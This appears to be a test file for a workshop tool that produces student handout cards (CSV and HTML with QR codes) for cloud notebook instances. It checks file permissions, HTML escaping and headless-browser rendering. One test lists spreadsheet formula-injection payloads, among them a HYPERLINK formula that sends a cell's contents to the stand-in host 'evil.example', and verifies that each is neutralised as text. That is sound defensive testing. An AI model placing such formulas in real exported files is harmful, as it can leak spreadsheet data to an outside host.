/**
 * The handout page rendered by a real browser (Debian's chromium, headless): the cards are there
 * with their names and URLs, and a QR code read back from a screenshot decodes to its student's URL.
 */
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import jsQR from "jsqr";
import { PNG } from "pngjs";
import { findChromium, headlessChromium as headless } from "./support/browser";
import { describeWithTool } from "./support/docker";
import { handoutCsv, handoutHtml, writeHandouts, type HandoutEntry } from "../workshop/handouts";
import { parseCsv } from "../workshop/csv";
import { loadCards } from "../workshop/cardSettings";
import { parseSettings } from "../workshop/settings";
import { jetstreamSettings } from "./support/workshopFixtures";

const chromium = findChromium();

const entries: HandoutEntry[] = [
  {
    id: "ada",
    name: "Ada <Lovelace> & co",
    email: "ada@example.org",
    status: "ready",
    url: "https://intro-ada.tra000000.projects.jetstream-cloud.org/lab?token=3f1c0ffee3f1c0ffee3f1c0ffee3f1c0",
    hostname: "intro-ada.tra000000.projects.jetstream-cloud.org",
    detail: "answering after 2 probe(s)",
  },
  {
    id: "bob",
    status: "unchanged",
    url: "https://intro-bob.tra000000.projects.jetstream-cloud.org/lab?token=b0bb0bb0bb0bb0bb0bb0bb0bb0bb0bb0",
    detail: "already up and answering",
  },
  { id: "cy", name: "Cy, Jr.", status: "failed", detail: "Quota exceeded for instances" },
];
const info = {
  workshop: "intro",
  expires: "2030-06-30",
  generatedAt: new Date("2030-06-01T08:00:00Z"),
};

describe("handout files", () => {
  let dir = "";
  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), "jn-ws-handouts-"));
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  test("are written owner-only, even over files that were world-readable", async () => {
    const out = path.join(dir, "handouts");
    fs.mkdirSync(out);
    fs.writeFileSync(path.join(out, "handouts.csv"), "old", { mode: 0o644 });
    const files = await writeHandouts(out, info, entries);
    expect(fs.statSync(files.csv).mode & 0o777).toBe(0o600);
    expect(fs.statSync(files.html).mode & 0o777).toBe(0o600);
    expect(fs.readdirSync(out).sort()).toEqual(["handouts.csv", "handouts.html"]);
  });

  test("each card tells its student the deletion date and to download their work", async () => {
    const html = await handoutHtml(info, entries);
    const cards = html.split('<article class="card"').slice(1);
    expect(cards).toHaveLength(2);
    for (const card of cards) {
      expect(card).toContain(
        "Your notebook and everything in it is deleted on <b>2030-06-30</b>; download your work before then.",
      );
      expect(card).toContain("Download");
    }
  });

  test("the cards follow the settings' cards block: title, lines, logo, paper, cards per page", async () => {
    fs.writeFileSync(path.join(dir, "logo.svg"), "<svg xmlns='http://www.w3.org/2000/svg'/>");
    const settings = parseSettings(
      {
        ...jetstreamSettings,
        cards: {
          title: "Intro to Python",
          courseUrl: "https://example.org/intro",
          contact: "Ada, room 2.14",
          wifi: "Wi-Fi: eduroam",
          logo: "logo.svg",
          paper: "letter",
          perPage: 4,
        },
      },
      path.join(dir, "workshop.yaml"),
    );
    const html = await handoutHtml({ ...info, cards: loadCards(settings.cards) }, entries);
    expect(html).toContain("@page { size: letter;");
    expect(html).toContain("grid-template-rows: repeat(2,");
    const [, ada] = html.split('<article class="card"');
    for (const text of [
      "Intro to Python",
      "https://example.org/intro",
      "Ada, room 2.14",
      "Wi-Fi: eduroam",
      'class="logo" alt="" src="data:image/svg+xml;base64,',
    ]) {
      expect(ada).toContain(text);
    }
  });

  test("an instructor's own template is what the cards are made of", async () => {
    fs.writeFileSync(
      path.join(dir, "mine.html"),
      '<p class="mine">{{name}} / {{qr}} / {{url}} / {{deletion}}</p>',
    );
    const settings = parseSettings(
      { ...jetstreamSettings, cards: { template: "mine.html" } },
      path.join(dir, "workshop.yaml"),
    );
    const html = await handoutHtml({ ...info, cards: loadCards(settings.cards) }, entries);
    expect(html.match(/<p class="mine">/g)).toHaveLength(2);
  });

  test("the CSV quotes what needs it and reads back", () => {
    const records = parseCsv(handoutCsv(entries)).map((r) => r.fields);
    expect(records[0]).toEqual(["id", "name", "email", "status", "url", "hostname", "detail"]);
    expect(records[3]).toEqual([
      "cy",
      "Cy, Jr.",
      "",
      "failed",
      "",
      "",
      "Quota exceeded for instances",
    ]);
    expect(records[1][4]).toBe(entries[0].url);
  });

  test.each([
    ['=HYPERLINK("https://evil.example/?"&E3,"notes")'],
    ["+1+1"],
    ["-2+3"],
    ["@SUM(A1:A2)"],
    ["\t=1+1"],
    ["\r=1+1"],
  ])("a cell a spreadsheet would run as a formula is kept as text: %j", (name) => {
    const csv = handoutCsv([{ id: "eve", name, status: "failed", detail: name }]);
    const [, row] = parseCsv(csv).map((r) => r.fields);
    // A leading apostrophe: spreadsheets show the cell as text and do not evaluate it.
    expect(row[1]).toBe(`'${name}`);
    expect(row[6]).toBe(`'${name}`);
    expect(row.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
  });
});

describeWithTool(
  "handout page in headless chromium",
  "chromium (apt-get install chromium)",
  chromium !== undefined,
  () => {
    let dir = "";
    let html = "";
    beforeAll(async () => {
      dir = fs.mkdtempSync(path.join(os.tmpdir(), "jn-ws-handouts-"));
      html = (await writeHandouts(dir, info, entries)).html;
    });
    afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

    test("renders one card per ready student, names escaped, and lists the rest", async () => {
      const dom = await headless(["--virtual-time-budget=5000", "--dump-dom", `file://${html}`]);
      const cards = [...dom.matchAll(/<article class="card" data-student="([^"]+)">/g)].map(
        (m) => m[1],
      );
      expect(cards).toEqual(["ada", "bob"]);
      expect(dom).toContain('<div class="name">Ada &lt;Lovelace&gt; &amp; co</div>');
      expect(dom).toContain(`<p class="url">${entries[1].url}</p>`);
      expect((dom.match(/<svg /g) ?? []).length).toBe(2);
      expect(dom).toContain("<li>cy: failed (Quota exceeded for instances)</li>");
    });

    test("a QR code on the rendered page decodes to its student's URL", async () => {
      // One card per page so the decoder sees exactly one code.
      const single = path.join(dir, "one.html");
      fs.writeFileSync(
        single,
        fs
          .readFileSync(html, "utf8")
          .replace(/<article class="card" data-student="bob">[\s\S]*?<\/article>/, ""),
      );
      const png = path.join(dir, "shot.png");
      await headless([
        "--window-size=900,900",
        "--hide-scrollbars",
        `--screenshot=${png}`,
        `file://${single}`,
      ]);
      const image = PNG.sync.read(fs.readFileSync(png));
      const code = jsQR(new Uint8ClampedArray(image.data), image.width, image.height);
      expect(code?.data).toBe(entries[0].url);
    });
  },
);
